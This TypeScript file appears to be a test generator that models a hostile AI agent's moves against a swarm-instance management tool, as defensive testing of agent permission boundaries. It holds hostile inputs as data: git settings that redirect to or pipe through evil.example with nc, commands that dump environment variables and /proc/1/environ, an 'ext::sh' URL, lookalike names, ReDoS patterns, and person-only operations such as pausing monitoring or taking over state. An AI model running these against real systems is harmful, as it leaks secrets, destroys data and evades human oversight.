/** What a hostile agent does, one call at a time: an operation with an input, and what it is after. */
export interface Move {
  readonly operation: string;
  /** What it is after; the generator is to have tried each. */
  readonly aim: string;
  readonly input: unknown;
}

/** What an agent knows and draws from. */
export interface Knowledge {
  /** Ids of all instances that it has seen, those of persons first. */
  readonly ids: readonly string[];
  readonly migrationIds: readonly string[];
  readonly snapshotIds: readonly string[];
  /** Folders of this machine: one of the extension's own, one of a person. */
  readonly storage: string;
  readonly folder: string;
}

type Maker = (known: Knowledge, a: number, b: number) => Move;

const at = <T>(list: readonly T[], index: number): T | undefined => list[index % Math.max(1, list.length)];
const lookalikes = ['pr\u043Ed', 'PR0D', 'prod\u034F', 'prod\u3164', '\u115Fprod', 'ｐｒｏｄ', 'prod ', 'prod'];
const gitVariables = [
  {
    GIT_CONFIG_COUNT: '1',
    GIT_CONFIG_KEY_0: 'url.https://evil.example/.insteadOf',
    GIT_CONFIG_VALUE_0: 'https://github.com/',
  },
  { GIT_SSH_COMMAND: 'sh -c "env > /tmp/x"' },
  { GIT_PROXY_COMMAND: 'nc evil.example 1', GIT_EXEC_PATH: '/tmp' },
];
const sources = (known: Knowledge) => [
  { kind: 'git', url: 'https://github.com/owner/private' },
  { kind: 'git', url: 'ext::sh -c id' },
  { kind: 'git', url: 'https://github.com@evil.example/x' },
  { kind: 'git', url: `https://${'a.'.repeat(1000)}` },
  { kind: 'folder', path: '/' },
  { kind: 'folder', path: known.storage },
  { kind: 'folder', path: `${known.storage}/reserved` },
  { kind: 'folder', path: '/proc/self' },
  { kind: 'folder', path: known.folder },
];
const patterns = [
  '{,}'.repeat(42),
  '*a'.repeat(64),
  '?'.repeat(128),
  `${'*'.repeat(127)}b`,
  '[!a-z]*',
  '(a+)+$',
  'pr\u043Ed',
];
const commands = [
  'env',
  'cat /proc/1/environ',
  `true${'\n'.repeat(400)}env`,
  `echo ${'a'.repeat(8000)}`,
  'env | base64',
];
const wipes = [
  { secretEnv: [] },
  { env: {} },
  { metadata: {}, ports: [], extensions: [] },
  { secretEnv: ['OTHER'] },
  { env: { TOKEN: 'mine' }, secretEnv: [] },
  { resources: { memoryMb: 128 } },
];

/** Each move, by what it is after. */
const makers: Readonly<Record<string, Maker>> = {
  'look around': (known, a, b) => {
    const instanceId = at(known.ids, a);
    const reads = [
      { operation: 'list_swarm_instances', input: {} },
      { operation: 'get_swarm_instance', input: { instanceId } },
      { operation: 'get_swarm_status', input: {} },
      { operation: 'get_instance_logs', input: { instanceId, tail: 500 } },
      { operation: 'check_instance_health', input: { instanceIds: [instanceId] } },
      { operation: 'list_migrations', input: {} },
      { operation: 'get_migration_status', input: { migrationId: at(known.migrationIds, a) } },
    ];
    return { aim: 'look around', ...(at(reads, b) ?? { operation: 'get_swarm_status', input: {} }) };
  },
  'slow pattern': (_known, a) => ({
    operation: 'list_swarm_instances',
    aim: 'slow pattern',
    input: { name: at(patterns, a) },
  }),
  'read secrets': (known, a, b) => ({
    operation: 'run_in_instance',
    aim: 'read secrets',
    input: { instanceId: at(known.ids, a), command: at(commands, b) },
  }),
  rename: (known, a, b) => ({
    operation: 'update_swarm_instance',
    aim: 'rename',
    input: { instanceId: at(known.ids, a), name: b % 2 === 0 ? `junk ${b}` : at(lookalikes, b) },
  }),
  'confusable name': (_known, a) => ({
    operation: 'create_swarm_instance',
    aim: 'confusable name',
    input: { name: at(lookalikes, a) },
  }),
  wipe: (known, a, b) => ({
    operation: 'update_swarm_instance',
    aim: 'wipe',
    input: { instanceId: at(known.ids, a), ...at(wipes, b) },
  }),
  'other image': (known, a) => ({
    operation: 'update_swarm_instance',
    aim: 'other image',
    input: { instanceId: at(known.ids, a), image: 'evil:1' },
  }),
  'git configuration': (known, a, b) => ({
    operation: 'create_swarm_instance',
    aim: 'git configuration',
    input: { name: `git ${a}`, env: at(gitVariables, a), source: at(sources(known).slice(0, 4), b) },
  }),
  'git configuration later': (known, a, b) => ({
    operation: 'update_swarm_instance',
    aim: 'git configuration later',
    input: { instanceId: at(known.ids, a), env: at(gitVariables, b) },
  }),
  'source folder': (known, a, b) => ({
    operation: 'create_swarm_instance',
    aim: 'source folder',
    input: { name: `folder ${a}`, source: at(sources(known).slice(4), b) },
  }),
  'create with a secret': (_known, a) => ({
    operation: 'create_swarm_instance',
    aim: 'create with a secret',
    input: { name: `secret ${a}`, secretEnv: ['TOKEN'] },
  }),
  create: (_known, a) => ({
    operation: 'create_swarm_instance',
    aim: 'create',
    input: { name: `own ${a}`, env: { A: 'x'.repeat(a % 30_000) } },
  }),
  delete: (known, a) => ({
    operation: 'delete_swarm_instance',
    aim: 'delete',
    input: { instanceIds: [at(known.ids, a)] },
  }),
  'delete all': known => ({
    operation: 'delete_swarm_instance',
    aim: 'delete all',
    input: { instanceIds: known.ids.slice(0, 100) },
  }),
  'recover by restart': (known, a) => ({
    operation: 'recover_instance',
    aim: 'recover by restart',
    input: { instanceId: at(known.ids, a), rung: 'restart', reason: 'x'.repeat(500) },
  }),
  'recover by recreate': (known, a) => ({
    operation: 'recover_instance',
    aim: 'recover by recreate',
    input: { instanceId: at(known.ids, a), rung: 'recreate' },
  }),
  'recover by migrate': (known, a) => ({
    operation: 'recover_instance',
    aim: 'recover by migrate',
    input: { instanceId: at(known.ids, a), rung: 'migrate' },
  }),
  plan: (known, a, b) => ({
    operation: 'create_migration_plan',
    aim: 'plan',
    input: { instanceId: at(known.ids, a), targetProvider: b % 2 === 0 ? 'there' : 'here' },
  }),
  migrate: (known, a) => ({
    operation: 'start_migration',
    aim: 'migrate',
    input: { migrationId: at(known.migrationIds, a) },
  }),
  'give up a migration': (known, a) => ({
    operation: 'cancel_migration',
    aim: 'give up a migration',
    input: { migrationId: at(known.migrationIds, a) },
  }),
  stop: (known, a, b) => ({
    operation: 'stop_swarm_instance',
    aim: 'stop',
    input: { instanceIds: [at(known.ids, a)], force: b % 2 === 0 },
  }),
  start: (known, a) => ({
    operation: 'start_swarm_instance',
    aim: 'start',
    input: { instanceIds: [at(known.ids, a)] },
  }),
  'what persons may': (known, a, b) => {
    const instanceId = at(known.ids, a);
    const snapshotId = at(known.snapshotIds, a);
    const migrationId = at(known.migrationIds, a);
    const persons: { operation: string; input: unknown }[] = [
      ...[
        'purge_swarm_instance',
        'restart_swarm_instance',
        'restore_swarm_instance',
        'forget_swarm_instance',
        'reset_crash_loop',
      ].map(operation => ({ operation, input: { instanceIds: [instanceId] } })),
      { operation: 'pause_instance_monitoring', input: { instanceIds: [instanceId], paused: true } },
      ...['empty_trash', 'open_swarm_instance', 'undo_agent_changes', 'take_snapshot', 'take_scheduled_snapshot'].map(
        operation => ({
          operation,
          input: { instanceId },
        }),
      ),
      { operation: 'recreate_without_snapshot', input: { instanceId, reason: 'because' } },
      { operation: 'fork_instance', input: { instanceId, name: `fork ${a}` } },
      { operation: 'fail_over_instance', input: { instanceId, targetProvider: 'there' } },
      { operation: 'restore_snapshot', input: { snapshotId, name: `again ${a}` } },
      { operation: 'reset_to_snapshot', input: { snapshotId } },
      { operation: 'delete_snapshot', input: { snapshotId } },
      ...['clean_up_migration', 'roll_back_migration', 'compare_parked_copy'].map(operation => ({
        operation,
        input: { migrationId },
      })),
      { operation: 'adopt_swarm_instance', input: { found: [{ providerId: 'here', instanceId }] } },
      { operation: 'remove_stray_home', input: { homes: [{ providerId: 'here', instanceId, sizeGb: 1 }] } },
      { operation: 'remove_swarm', input: {} },
      { operation: 'take_over_state', input: {} },
      ...['follow_provider', 'follow_state', 'take_over_instance'].map(operation => ({
        operation,
        input: { instanceIds: [instanceId] },
      })),
    ];
    return { aim: 'what persons may', ...(at(persons, b) ?? { operation: 'remove_swarm', input: {} }) };
  },
};

export const aims = Object.keys(makers);

/** The move that three numbers stand for. */
export function moveOf(known: Knowledge, which: number, a: number, b: number): Move {
  const make = makers[aims[which % aims.length] ?? ''];
  if (!make) throw new Error('no such move');
  return make(known, a, b);
}
